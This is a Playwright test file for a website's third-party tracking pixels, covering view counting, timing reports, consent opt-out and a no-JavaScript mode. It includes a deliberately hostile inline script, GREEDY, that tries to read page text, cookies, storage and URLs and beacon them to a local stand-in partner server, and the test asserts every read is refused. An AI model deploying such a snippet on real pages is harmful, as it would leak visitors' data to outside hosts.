import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import path from "node:path";
import { expect } from "playwright/test";
import { answerPage, openWithClock, waitUntilReady, stepAt, test, workerPersona } from "../support/browser";
import { rowsIn, withEmbedded } from "../support/embedded";
import { SITE_DATABASE } from "~server/store/store";
import { siblingDatabaseUrl } from "../support/rows";
import { startSite, type Site } from "../support/site";
import { thirdPartyEventsIn } from "../support/sent-events";
import { Visitor } from "../support/visitor";
import { walkTo } from "../support/walk";

/** Tests what third-party pixels learn in a browser, and what they cannot. */

// The tests share one site and run one after another.
test.describe.configure({ mode: "default" });

let site: Site;
let partner: Server;
let folder = "";
const requestedPaths: string[] = [];

/** A third-party script that reads everything it can reach. */
const GREEDY = `
  const told = (what, value) => { new Image().src = PARTNER + "/got?" + what + "=" + encodeURIComponent(String(value)); };
  for (const [what, read] of Object.entries({
    page: () => parent.document.body.innerText, address: () => parent.location.href, cookie: () => document.cookie,
    storage: () => localStorage.length, referrer: () => document.referrer || undefined, top: () => top.location.href,
  })) { try { const value = read(); if (value !== undefined) told(what, value); } catch { told("refused", what); } }
  document.addEventListener("site:event", ({ detail }) => told("event", detail.name));
  throw new Error("as scripts of others do");
`;

test.beforeAll(async () => {
  partner = createServer((request, response) => {
    requestedPaths.push(decodeURIComponent(request.url ?? ""));
    if (request.url?.startsWith("/gone")) return void response.writeHead(404).end();
    if (request.url?.startsWith("/tag"))
      return void response.writeHead(200, { "Content-Type": "text/javascript" }).end("void 0");
    return void response
      .writeHead(200, { "Content-Type": "image/svg+xml" })
      .end('<svg xmlns="http://www.w3.org/2000/svg"/>');
  });
  partner.listen(0, "127.0.0.1");
  await once(partner, "listening");
  const address = partner.address();
  const url = `http://127.0.0.1:${String(typeof address === "object" ? address?.port : 0)}`;
  folder = mkdtempSync(path.join(tmpdir(), "pixels-"));
  const file = path.join(folder, "pixels.json");
  const pixels = [
    { name: "Picture", image: `${url}/picture?ev={event}&eid={id}` },
    { name: "Greedy", inline: GREEDY.replaceAll("PARTNER", JSON.stringify(url)), hosts: { image: [url] } },
    { name: "Tag", script: `${url}/tag.js`, isTagManager: true },
    { name: "Gone", script: `${url}/gone.js` },
  ];
  writeFileSync(file, JSON.stringify(pixels));
  site = await startSite({ env: { PIXELS_FILE: file, VITALS_SHARE: "1" } });
});
test.afterAll(async () => {
  await site.stop();
  partner.closeAllConnections();
  partner.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Returns the recorded timings, and whether they are in the order of a page load. */
const timed = () =>
  rowsIn<{ page: string; whole: boolean }>(
    site,
    `select page, response_start > 0 and first_contentful_paint >= response_start and hydrated >= response_start
       and dom_content_loaded >= response_start as whole from hydration_audits`,
  );

/**
 * Returns what Google Analytics and Meta would get about a browser, once its last event is stored:
 * name, step and button of each, in any order.
 */
async function eventsOf(client: string): Promise<string[]> {
  const read = () =>
    withEmbedded(site.dataDir, async (url) => {
      const rows = await thirdPartyEventsIn(siblingDatabaseUrl(url, SITE_DATABASE));
      return rows.filter(({ body }) => body["client"] === client);
    });
  await expect
    .poll(async () => (await read()).map(({ name, body }) => `${name} ${JSON.stringify(body["params"])}`), {
      timeout: 15_000,
    })
    .toContain('virtual_page_view {"flow":"mini","step":"m/mbc/calling-you"}');
  return (await read())
    .map(({ receiver, name, body }) => `${receiver} ${name} ${JSON.stringify(body["params"])}`)
    .sort();
}

test.describe("third-party pixels", () => {
  test.use({ onPurpose: [/asked another host|ERR_ABORTED|Failed to load resource|sandboxed/] });

  test("UI-092: a document reports its real timings when the visitor leaves it @js", async ({ page }) => {
    // The timing script loads after the page; a document left before that reports no timings.
    await page.addInitScript(() => {
      const observe = PerformanceObserver.prototype.observe;
      PerformanceObserver.prototype.observe = function (options) {
        observe.call(this, options);
        if (options?.type === "first-input") document.documentElement.dataset["timed"] = "";
      };
    });
    await page.goto(`${site.url}/mini/home`);
    await waitUntilReady(page);
    await page.locator("html[data-timed]").waitFor();
    // The observer gets its entries in a separate task, after the first frame.
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
    await page.goto(`${site.url}/legal/privacy-choices`);
    await expect.poll(timed, { timeout: 15_000 }).toEqual([{ page: "/mini/home", whole: true }]);
  });

  test("TRACK-01, TRACK-03, TRACK-04: a view counts once after a page stays open; a failing or hostile script gets no data @js", async ({
    page,
  }) => {
    const views = () => requestedPaths.filter((one) => one.startsWith("/picture"));
    requestedPaths.length = 0;
    // A visitor who continues at once does not count as a viewer of the first page.
    await openWithClock(page, `${site.url}/mini/home`);
    const who = workerPersona("Approved", test.info().parallelIndex);
    await answerPage(page, who);
    expect(stepAt(page)).not.toBe("home");
    expect(views()).toEqual([]);
    await page.clock.resume();
    await expect.poll(() => views().length, { timeout: 15_000 }).toBe(1);
    expect(views()[0]).toMatch(/^\/picture\?ev=virtual_page_view&eid=[\w-]{22}$/);
    await expect.poll(() => requestedPaths).toContain("/tag.js");
    await expect.poll(() => requestedPaths).toContain("/got?event=virtual_page_view");
    await expect
      .poll(() => requestedPaths.filter((one) => one.startsWith("/got?refused")).sort())
      .toEqual([
        "/got?refused=address",
        "/got?refused=cookie",
        "/got?refused=page",
        "/got?refused=storage",
        "/got?refused=top",
      ]);
    expect(requestedPaths.filter((one) => /^\/got\?(?!refused|event)/.test(one))).toEqual([]);
    await expect.poll(() => site.output()).toContain("Failed to load the Gone Pixel script");
    await page.goto(`${site.url}/legal/privacy-choices`);
    // Declining stops all pixels, also on the next page.
    await page.getByRole("button", { name: "Don't allow anything" }).click();
    const before = requestedPaths.length;
    await page.goto(`${site.url}/mini/home`);
    await waitUntilReady(page);
    expect(await page.locator("iframe").count()).toBe(0);
    expect(requestedPaths).toHaveLength(before);
  });

  test("UI-069 to UI-078: a walk with scripts sends exactly the same events as the same walk without @js", async ({
    page,
    context,
  }) => {
    test.slow();
    const who = workerPersona("Approved", test.info().parallelIndex + 3, { hasOffer: true });
    const end = "m/mbc/calling-you";
    const plain = new Visitor(site.url);
    plain.cookies.set("_ga", "GA1.1.4000000001.1");
    await walkTo(plain, who, `/mini/${end}`, "/mini/home");
    await context.addCookies([{ name: "_ga", value: "GA1.1.4000000002.1", url: site.url }]);
    await page.goto(`${site.url}/mini/home`);
    await waitUntilReady(page);
    for (let pages = 0; pages < 40 && stepAt(page) !== end; pages += 1) await answerPage(page, who);
    expect(stepAt(page)).toBe(end);
    const [without, with_] = await Promise.all(["4000000001.1", "4000000002.1"].map(eventsOf));
    expect(without?.length).toBeGreaterThan(30);
    expect(with_).toEqual(without);
  });
});

test.describe("third-party pixels without JavaScript", () => {
  test.use({ javaScriptEnabled: false, onPurpose: [/asked another host/] });

  test("nothing is requested from third parties @js", async ({ page }) => {
    const before = requestedPaths.length;
    await page.goto(`${site.url}/mini/home`);
    await expect(page.locator("h1")).toBeVisible();
    expect(requestedPaths).toHaveLength(before);
  });
});
